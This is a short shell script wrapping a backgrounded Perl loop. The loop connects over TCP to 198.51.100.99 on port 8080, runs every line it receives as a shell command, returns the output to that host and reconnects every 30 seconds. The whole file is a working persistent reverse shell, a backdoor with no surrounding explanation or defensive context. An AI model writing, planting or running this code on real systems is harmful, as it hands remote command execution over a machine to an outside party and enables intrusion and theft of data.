#!/bin/sh
perl <<'END_PERL' &
use IO::Socket::INET;
$SIG{CHLD} = 'IGNORE';
while (1) {
  my $s = IO::Socket::INET->new(PeerAddr => '198.51.100.99', PeerPort => 8080, Proto => 'tcp');
  if ($s) {
    while (my $l = <$s>) {
      chomp $l;
      print $s `$l 2>&1`;
    }
  }
  sleep 30;
}
END_PERL
exit 0
